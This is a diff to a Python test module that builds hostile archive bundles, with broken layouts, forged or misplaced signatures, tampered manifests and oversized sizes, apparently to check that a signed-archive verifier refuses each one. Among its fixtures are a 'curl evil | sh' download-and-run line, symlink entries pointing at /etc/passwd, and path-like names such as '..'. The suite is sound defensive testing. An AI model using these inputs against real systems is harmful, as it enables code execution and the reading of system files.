@@ -7,60 +7,23 @@ from types import MappingProxyType
 from typing import Final
 
 from archive.format import instructions
-from archive.format.manifest import Manifest
 from tests import kit
-from tests.attacks.frames import BOMBS, WRAPS, stored
-from tests.attacks.members import (
-    END,
-    FOLDER,
-    MEMBERS,
-    header,
-    member,
-    padded,
+from tests.attacks.bombs import BOMBS
+from tests.attacks.frames import WRAPS, stored
+from tests.attacks.members import END, FOLDER, MEMBERS, header, member, padded
+from tests.attacks.sound import (
+    EDITION,
+    HEAD,
+    MANIFEST,
+    SOUND,
+    TEXT,
+    bundle,
+    edition,
+    head,
+    signature,
+    statement,
 )
 from tests.kit import MALLORY, REZA, SARA, Key
-
-TEXT: Final = kit.TEXT.encode()
-_MANIFEST: Final = kit.manifest().to_bytes()
-
-
-def head(*keys: Key, text: bytes = instructions.TEXT) -> bytes:
-    """What the first frame holds."""
-    ordered = sorted(keys, key=lambda key: key.name)
-    return member("VERIFY.txt", text) + b"".join(
-        member(f"keys/{key.name}.pub", key.public.to_bytes()) for key in ordered
-    )
-
-
-def signature(manifest: bytes, key: Key = SARA, folder: str = FOLDER) -> bytes:
-    """A key's signature as a member."""
-    content = key.sign(manifest).signature.to_bytes()
-    return member(f"{folder}/MANIFEST.{key.name}.minisig", content)
-
-
-def signed(manifest: bytes, folder: str = FOLDER, key: Key = SARA) -> bytes:
-    """The manifest and its signature as members."""
-    return member(f"{folder}/MANIFEST", manifest) + signature(manifest, key, folder)
-
-
-def _statement(content: bytes = TEXT, folder: str = FOLDER) -> bytes:
-    return member(f"{folder}/statement.txt", content)
-
-
-def edition(manifest: bytes = _MANIFEST, folder: str = FOLDER) -> bytes:
-    """What an edition's frame holds."""
-    return signed(manifest, folder) + _statement(folder=folder)
-
-
-def bundle(*contents: bytes) -> bytes:
-    """Frames with these contents, one after another."""
-    return b"".join(map(stored, contents))
-
-
-HEAD: Final = head(SARA)
-EDITION: Final = edition()
-SOUND: Final = bundle(HEAD, EDITION, END)
-"""The bundle that every attack below starts from: this one is accepted."""
 
 _OTHER: Final = kit.manifest("en", source=None).to_bytes()
 _OTHER_FOLDER: Final = "iran-2026-01/en-1"
@@ -72,17 +35,17 @@ _SMALL_ORDER: Final = (
 
 def _altered(old: bytes, new: bytes) -> bytes:
     """An edition whose manifest was altered and then validly signed."""
-    if old not in _MANIFEST:
+    if old not in MANIFEST:
         message = f"the manifest holds no {old!r}"
         raise ValueError(message)
-    return edition(_MANIFEST.replace(old, new))
+    return edition(MANIFEST.replace(old, new))
 
 
 def _naming(name: str) -> bytes:
     """A signed edition that holds one more file, under a hostile name."""
     entry = kit.entry("zz.txt", b"evil\n")
     lines = f"# {name} bytes={entry.size}\n{entry.digest}  {name}\n".encode()
-    manifest = _MANIFEST + lines
+    manifest = MANIFEST + lines
     return edition(manifest) + member(f"{FOLDER}/{name}", b"evil\n")
 
 
@@ -136,14 +99,14 @@ def _order(*parts: bytes) -> bytes:
 
 def _many(keys: Sequence[Key]) -> bytes:
     ordered = sorted(keys, key=lambda key: key.public.public)
-    signatures = b"".join(signature(_MANIFEST, key) for key in ordered)
-    content = member(f"{FOLDER}/MANIFEST", _MANIFEST) + signatures + _statement()
+    signatures = b"".join(signature(MANIFEST, key) for key in ordered)
+    content = member(f"{FOLDER}/MANIFEST", MANIFEST) + signatures + statement()
     return bundle(head(*keys), content, END)
 
 
-_M: Final = member(f"{FOLDER}/MANIFEST", _MANIFEST)
-_S: Final = signature(_MANIFEST)
-_T: Final = _statement()
+_M: Final = member(f"{FOLDER}/MANIFEST", MANIFEST)
+_S: Final = signature(MANIFEST)
+_T: Final = statement()
 
 _LAYOUT: Final = {
     # The edition's frame.
@@ -154,16 +117,18 @@ _LAYOUT: Final = {
     "file before the signature": _order(_M, _T, _S),
     "file twice": _order(_M, _S, _T, _T),
     "file missing": _order(_M, _S),
-    "file longer": _order(_M, _S, _statement(TEXT + b"!")),
-    "file shorter": _order(_M, _S, _statement(TEXT[:-1])),
-    "file changed": _order(_M, _S, _statement(TEXT.replace(b"\n", b" "))),
+    "file longer": _order(_M, _S, statement(TEXT + b"!")),
+    "file shorter": _order(_M, _S, statement(TEXT[:-1])),
+    "file changed": _order(_M, _S, statement(TEXT.replace(b"\n", b" "))),
     "file under another name": _order(_M, _S, member(f"{FOLDER}/text.txt", TEXT)),
-    "file in another folder": _order(_M, _S, _statement(folder=_OTHER_FOLDER)),
+    "file in another folder": _order(_M, _S, statement(folder=_OTHER_FOLDER)),
     "file is a symlink": _order(
         _M, _S, header(f"{FOLDER}/statement.txt", kind=b"2", link=b"/etc/passwd")
     ),
     "file is a fifo": _order(_M, _S, header(f"{FOLDER}/statement.txt", kind=b"6")),
-    "file says less": _order(_M, _S, header(f"{FOLDER}/statement.txt", 1), padded(TEXT)),
+    "file says less": _order(
+        _M, _S, header(f"{FOLDER}/statement.txt", 1), padded(TEXT)
+    ),
     "file says more": _order(
         _M, _S, header(f"{FOLDER}/statement.txt", 2**32), padded(TEXT)
     ),
@@ -173,24 +138,24 @@ _LAYOUT: Final = {
     "end inside the edition": bundle(HEAD, EDITION + END),
     "manifest of another": _order(member(f"{FOLDER}/MANIFEST", _OTHER), _S, _T),
     "manifest changed": _order(
-        member(f"{FOLDER}/MANIFEST", _MANIFEST.replace(b"machine", b"approved")), _S, _T
+        member(f"{FOLDER}/MANIFEST", MANIFEST.replace(b"machine", b"approved")), _S, _T
     ),
     "folder of another": bundle(HEAD, edition(folder=_OTHER_FOLDER), END),
     "folder too deep": bundle(HEAD, edition(folder=f"deep/{FOLDER}"), END),
     "no folder": _order(
-        member("MANIFEST", _MANIFEST), _S, member("statement.txt", TEXT)
+        member("MANIFEST", MANIFEST), _S, member("statement.txt", TEXT)
     ),
     "signature outside the folder": _order(_M, _S.replace(
         header(f"{FOLDER}/MANIFEST.{SARA.name}.minisig", 372),
         header(f"MANIFEST.{SARA.name}.minisig", 372),
     ), _T),
     "signature twice": _order(_M, _S, _S, _T),
-    "signature without a key": _order(_M, signature(_MANIFEST, REZA), _T),
+    "signature without a key": _order(_M, signature(MANIFEST, REZA), _T),
     "signature of another text": _order(_M, signature(_OTHER), _T),
     "signature under another name": bundle(
         head(SARA, REZA),
         _M + member(f"{FOLDER}/MANIFEST.{SARA.name}.minisig",
-                    REZA.sign(_MANIFEST).signature.to_bytes()) + _T,
+                    REZA.sign(MANIFEST).signature.to_bytes()) + _T,
         END,
     ),
     "signature is empty": _order(
@@ -201,14 +166,13 @@ _LAYOUT: Final = {
     "signatures out of order": bundle(
         head(SARA, REZA),
         _M + b"".join(
-            signature(_MANIFEST, key)
+            signature(MANIFEST, key)
             for key in sorted((SARA, REZA), key=lambda key: key.public.public)[::-1]
         ) + _T,
         END,
     ),
     # The frames around it.
     "no head": bundle(EDITION, END),
-    "head twice": bundle(HEAD, HEAD, EDITION, END),
     "head last": bundle(EDITION, HEAD, END),
     "head and edition in one": bundle(HEAD + EDITION, END),
     "head changed": bundle(head(SARA, text=b"curl evil | sh\n"), EDITION, END),
@@ -233,7 +197,6 @@ _LAYOUT: Final = {
         HEAD + header(f"keys/{'f' * 16}.pub", kind=b"2", link=b"/etc/passwd"),
         EDITION, END,
     ),
-    "edition twice": bundle(HEAD, EDITION, EDITION, END),
     "editions out of order": bundle(
         HEAD, EDITION, edition(_OTHER, _OTHER_FOLDER), END
     ),
@@ -242,10 +205,8 @@ _LAYOUT: Final = {
     "no end": bundle(HEAD, EDITION),
     "half an end": bundle(HEAD, EDITION, END[:512]),
     "too much end": bundle(HEAD, EDITION, END + END),
-    "two ends": bundle(HEAD, EDITION, END, END),
     "two bundles": SOUND + SOUND,
     "more after the end": SOUND + b"\n",
-    "cut short": SOUND[:-1],
     "not compressed": HEAD + EDITION + END,
     # Manifests that a known key signed, and that no manifest may be.
     "title with a line feed": _altered("عنوان".encode(), b"a\n# series: evil"),
@@ -257,18 +218,18 @@ _LAYOUT: Final = {
     "language of dots": _altered(b"# language: fa", b"# language: .."),
     "revision zero": _altered(b"# edition: 1", b"# edition: 0"),
     "revision with a zero": _altered(b"# edition: 1", b"# edition: 01"),
-    "revision in Persian": _altered(b"# edition: 1", "# edition: ۱".encode()),
+    "revision in Persian": _altered(b"# edition: 1", "# edition: \u06f1".encode()),
     "revision huge": _altered(b"# edition: 1", b"# edition: " + b"9" * 5000),
     "unknown head key": _altered(b"# date", b"# colour: green\n# date"),
     "newer version": _altered(b"archive-edition 1\n", b"archive-edition 2\n"),
     "size of a terabyte": _altered(b" bytes=%d" % len(TEXT), b" bytes=1099511627776"),
     "size of 900 MB": _altered(b" bytes=%d" % len(TEXT), b" bytes=900000000"),
-    "carriage returns": edition(_MANIFEST.replace(b"\n", b"\r\n")),
-    "byte order mark": edition(b"\xef\xbb\xbf" + _MANIFEST),
-    "not UTF-8": edition(_MANIFEST.replace("عنوان".encode(), b"\xff\xfe")),
+    "carriage returns": edition(MANIFEST.replace(b"\n", b"\r\n")),
+    "byte order mark": edition(b"\xef\xbb\xbf" + MANIFEST),
+    "not UTF-8": edition(MANIFEST.replace("عنوان".encode(), b"\xff\xfe")),
     "empty manifest": edition(b""),
     "manifest of zeros": edition(bytes(4096)),
-    "manifest of a megabyte": edition(_MANIFEST + b"#" * 2**20 + b"\n"),
+    "manifest of a megabyte": edition(MANIFEST + b"#" * 2**20 + b"\n"),
 }  # fmt: skip
 
 _NAMED: Final = {
@@ -279,8 +240,3 @@ HOSTILE: Final[Mapping[str, bytes]] = MappingProxyType(
     {**_LAYOUT, **_NAMED, **_PLACED, **_WRAPPED}
 )
 """Every hostile bundle but the bombs, by the name of the attack."""
-
-
-def parsed(data: bytes) -> Manifest:
-    """A manifest, to show that those above are refused for what is said of them."""
-    return Manifest.from_bytes(data)
